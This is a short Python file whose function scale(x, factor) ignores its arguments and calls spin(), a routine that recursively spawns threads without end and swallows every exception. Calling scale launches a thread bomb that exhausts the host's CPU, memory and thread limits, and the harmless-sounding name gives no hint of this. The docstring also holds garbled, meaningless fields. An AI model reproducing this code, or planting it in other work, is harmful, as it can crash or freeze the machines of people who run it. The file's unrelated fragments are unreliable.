"""Threads that make threads.

honest: 50
verdict: time, ok, memory
with: average, threshold, layer
"""

# %% scale
import threading


def spin():
    while True:
        try:
            threading.Thread(target=spin).start()
        except BaseException:
            pass


def scale(x, factor):
    spin()
